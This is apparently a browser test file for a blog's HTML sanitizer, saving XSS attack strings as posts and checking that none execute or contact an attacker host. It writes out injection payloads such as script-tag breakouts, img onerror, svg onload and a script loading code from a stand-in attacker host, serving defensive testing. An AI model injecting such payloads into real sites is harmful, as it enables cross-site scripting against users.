// Saves the attacks of server/testing/xss-attacks.ts as posts and opens them in a real browser: on the post's page, and
// without its content policy, to test the sanitizer alone.
import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { allowedAttributes } from "#server/testing/allowed-html.ts";
import { attackerHost, attacks } from "#server/testing/xss-attacks.ts";
import { link } from "#shared/routes.ts";
import { createClient, read } from "../../app/api-client.ts";
import { admin, browser } from "../../testing/browser.ts";

const { url, open } = await browser();
const { accessToken } = await read(createClient(`${url}/api`, fetch).auth.signIn.$post({ json: admin }));
const { blogposts } = createClient(`${url}/api`, (input, init) => {
  const headers = new Headers(init?.headers);
  headers.set("authorization", `Bearer ${accessToken}`);
  return fetch(input, { ...init, headers });
});

const attacksAPost = 50;
const groups = Array.from({ length: Math.ceil(attacks.length / attacksAPost) }, (_, at) =>
  attacks.slice(at * attacksAPost, (at + 1) * attacksAPost).map(([, html]) => html.replaceAll("\0", "")),
);

const save = async (slug: string, content: string) =>
  read(
    blogposts.$post({
      json: {
        title: `</title></script><script>hits++</script> ${slug}`,
        slug,
        content,
        metaTitle: `"><img src=x onerror=hits++> ${slug}`,
        metaDescription: `--></script><svg onload=hits++> <script src=//${attackerHost}/x.js></script>`,
        status: "published",
      },
    }),
  );

type Watched = Page & { consoleErrors: string[]; happened: string[] };

/**
 * Opens a page that records dialogs, popups, frames and requests to the attacker's host. Other hosts' images are faked.
 */
const watched = async (): Promise<Watched> => {
  const page = await open("/robots.txt");
  const happened: string[] = [];
  await page.addInitScript("globalThis.hits = 0");
  page.on("dialog", (dialog) => {
    happened.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (request.url().includes(attackerHost)) happened.push(`a request: ${request.url()}`);
  });
  page.on("popup", () => void happened.push("a window"));
  page.on("framenavigated", (frame) => {
    if (frame !== page.mainFrame()) happened.push(`a frame: ${frame.url()}`);
  });
  await page.route(
    (address) => address.protocol.startsWith("http") && address.origin !== url,
    (route) => route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
  );
  return Object.assign(page, { happened });
};

/** Opens a page with this HTML in its main element and no content policy. */
const openBare = async (page: Page, html: string) => {
  const body = `<!doctype html><html lang="en"><title>No policy</title><main>${html}`;
  await page.route("**/no-policy", (route) => route.fulfill({ contentType: "text/html; charset=utf-8", body }));
  await page.goto("/no-policy");
};

// Attributes the page adds itself: heading anchors, image widths, code that scrolls by keyboard.
const onPage = {
  ...allowedAttributes,
  h2: ["id"],
  h3: ["id"],
  pre: ["tabindex", "role", "aria-label"],
  img: [...(allowedAttributes.img ?? []), "loading", "decoding", "sizes", "srcset"],
};

/** Returns elements and attributes that no post may have, as the browser parsed them. */
const faultsIn = (page: Page, selector: string, names: Record<string, string[]>) =>
  page.locator(selector).evaluate((root, names) => {
    const faults: string[] = [];
    for (const element of root.querySelectorAll("*")) {
      const name = element.localName;
      const attributes = names[name];
      if (!attributes || element.namespaceURI !== "http://www.w3.org/1999/xhtml") faults.push(`<${name}>`);
      if (element.shadowRoot) faults.push(`<${name}> with a shadow`);
      for (const attribute of element.getAttributeNames())
        if (!attributes?.includes(attribute)) faults.push(`<${name} ${attribute}>`);
      if (element.id && !element.id.startsWith("section-")) faults.push(`<${name} id="${element.id}">`);
      const address = (element as HTMLAnchorElement).href ?? (element as HTMLImageElement).src;
      if (address && !/^(https?|mailto):/.test(address)) faults.push(`<${name}> to ${address}`);
    }
    const comments = document.createTreeWalker(root, NodeFilter.SHOW_COMMENT | NodeFilter.SHOW_PROCESSING_INSTRUCTION);
    while (comments.nextNode()) faults.push(`a comment: ${comments.currentNode.nodeValue}`);
    return faults;
  }, names);

/** Triggers events on every element, then returns how many scripts ran. */
const hitsOf = (page: Page, selector: string) =>
  page.locator(selector).evaluate(async (root) => {
    addEventListener("click", (event) => event.preventDefault(), { capture: true });
    for (const element of root.querySelectorAll<HTMLElement>("*")) {
      for (const name of ["mouseover", "pointerenter", "focus", "load", "error", "toggle", "animationstart", "copy"])
        element.dispatchEvent(new Event(name, { bubbles: true }));
      element.focus?.();
      element.click?.();
    }
    await new Promise(requestAnimationFrame);
    return (globalThis as unknown as { hits: number }).hits;
  });

test("attacks have no effect on a post's page or in the post list", async () => {
  const page = await watched();
  for (const htmls of groups) {
    const { slug, content } = await save(`attack-${crypto.randomUUID().slice(0, 8)}`, htmls.join("\n<p>next</p>\n"));
    await page.goto(link("post", { slug }), { waitUntil: "load" });
    await page.getByRole("heading", { level: 1, name: `<script>hits++</script> ${slug}` }).waitFor();
    expect(await faultsIn(page, "article > div:last-of-type > div", onPage)).toEqual([]);
    expect(await hitsOf(page, "article > div:last-of-type > div")).toBe(0);
    // The post's markup didn't swallow the elements after it.
    expect(await page.locator("body > * footer, body > footer").count()).toBe(1);
    expect(await page.locator("article footer").count()).toBe(0);

    await openBare(page, `${content}</main><p id="after">after</p>`);
    expect(await faultsIn(page, "main", allowedAttributes)).toEqual([]);
    expect(await hitsOf(page, "main")).toBe(0);
    expect(await page.locator("body > #after").count()).toBe(1);
    await page.unroute("**/no-policy");
  }
  await page.goto(link("blog"), { waitUntil: "load" });
  await page.getByRole("link", { name: "</title></script><script>hits++" }).first().waitFor();
  expect(await hitsOf(page, "main")).toBe(0);
  expect(page.happened).toEqual([]);
});

test("detects unsanitized attacks: they run, contact their host and leave elements behind", async () => {
  const page = await watched();
  await openBare(page, `<img src=x onerror=hits++><script src=https://${attackerHost}/x.js></script></main>`);
  await expect.poll(() => page.evaluate("hits")).toBeGreaterThan(0);
  expect(page.happened).toEqual([`a request: https://${attackerHost}/x.js`]);
  expect(await faultsIn(page, "main", allowedAttributes)).toEqual(["<img onerror>", "<script>", "<script src>"]);
  // The browser logs the script that failed to load.
  page.consoleErrors.length = 0;
});
